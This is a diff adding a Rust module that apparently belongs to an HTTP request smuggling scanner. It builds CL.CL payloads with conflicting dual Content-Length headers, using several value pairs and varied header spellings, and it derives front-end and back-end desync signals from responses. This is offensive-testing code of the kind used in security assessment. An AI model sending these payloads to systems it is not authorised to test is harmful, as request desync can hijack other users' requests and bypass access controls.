@@ -0,0 +1,130 @@
+use super::{PayloadIter, RequestParts};
+
+/// Body sent by every CL.CL payload.
+const CL_CL_BODY: &str = "SMUGGL";
+
+/// Conflicting `(first, second)` Content-Length values. One of each pair
+/// matches the body length, so the hop that honors it forwards a complete
+/// message: with `6`/`50` the hop that honors `50` waits for bytes that never
+/// arrive, with `0`/`6` the hop that honors `0` leaves the body as the prefix
+/// of the next request.
+const CL_CL_VALUE_PAIRS: [(usize, usize); 4] = [(6, 50), (50, 6), (0, 6), (6, 0)];
+
+/// Spellings of the second Content-Length header (`{}` is the value), so a
+/// hop that deduplicates only exact matches still sees two headers.
+const CL_CL_SECOND_HEADER_STYLES: [&str; 7] = [
+    "Content-Length: {}",
+    "content-length: {}",
+    "CONTENT-LENGTH: {}",
+    "Content-Length:{}",
+    "Content-Length:\t{}",
+    "Content-Length: {} ",
+    "X-Padding: 1\r\nContent-Length: {}",
+];
+
+/// Name of each [`CL_CL_SECOND_HEADER_STYLES`] spelling.
+const CL_CL_SECOND_HEADER_NAMES: [&str; 7] = [
+    "canonical",
+    "lowercase",
+    "uppercase",
+    "nospace",
+    "tab-after-colon",
+    "trailing-space",
+    "padded",
+];
+
+/// Generate CL.CL (conflicting dual Content-Length) attack payloads
+pub fn cl_cl_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    PayloadIter::new(
+        CL_CL_VALUE_PAIRS.len() * CL_CL_SECOND_HEADER_STYLES.len(),
+        move |i| {
+            let (first, second) = CL_CL_VALUE_PAIRS[i / CL_CL_SECOND_HEADER_STYLES.len()];
+            let second_header = CL_CL_SECOND_HEADER_STYLES[i % CL_CL_SECOND_HEADER_STYLES.len()]
+                .replace("{}", &second.to_string());
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 Connection: keep-alive\r\n\
+                 {}\
+                 {}\
+                 Content-Length: {}\r\n\
+                 {}\r\n\
+                 \r\n\
+                 {}",
+                parts.method,
+                parts.path,
+                parts.host,
+                parts.headers,
+                parts.cookies,
+                first,
+                second_header,
+                CL_CL_BODY
+            )
+        },
+    )
+    .named(|i, _| {
+        let (first, second) = CL_CL_VALUE_PAIRS[i / CL_CL_SECOND_HEADER_STYLES.len()];
+        format!(
+            "{}-{}/{}",
+            first,
+            second,
+            CL_CL_SECOND_HEADER_NAMES[i % CL_CL_SECOND_HEADER_STYLES.len()]
+        )
+    })
+}
+
+/// Eagerly collected [`cl_cl_payloads`]
+pub fn get_cl_cl_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    cl_cl_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}
+
+/// Which Content-Length header each hop honored for a CL.CL payload that
+/// desynced, as detection signals (`front_end_honors:content-length#1=6`,
+/// `back_end_honors:content-length#2=50`).
+///
+/// The front-end must have forwarded a complete message for the back-end to
+/// desync, so it honored the header whose value matches the body length; the
+/// back-end honored the other one. Empty when the payload does not carry
+/// exactly two Content-Length headers, one of them matching the body.
+pub fn cl_cl_hop_signals(payload: &str) -> Vec<String> {
+    let Some((head, body)) = payload.split_once("\r\n\r\n") else {
+        return Vec::new();
+    };
+    let values: Vec<&str> = head
+        .split("\r\n")
+        .skip(1)
+        .filter_map(|line| line.split_once(':'))
+        .filter(|(name, _)| name.trim().eq_ignore_ascii_case("content-length"))
+        .map(|(_, value)| value.trim())
+        .collect();
+    let [first, second] = values[..] else {
+        return Vec::new();
+    };
+    let body_len = body.len().to_string();
+    let (front, back) = if first == body_len && second != body_len {
+        ((1, first), (2, second))
+    } else if second == body_len && first != body_len {
+        ((2, second), (1, first))
+    } else {
+        return Vec::new();
+    };
+    vec![
+        format!("front_end_honors:content-length#{}={}", front.0, front.1),
+        format!("back_end_honors:content-length#{}={}", back.0, back.1),
+    ]
+}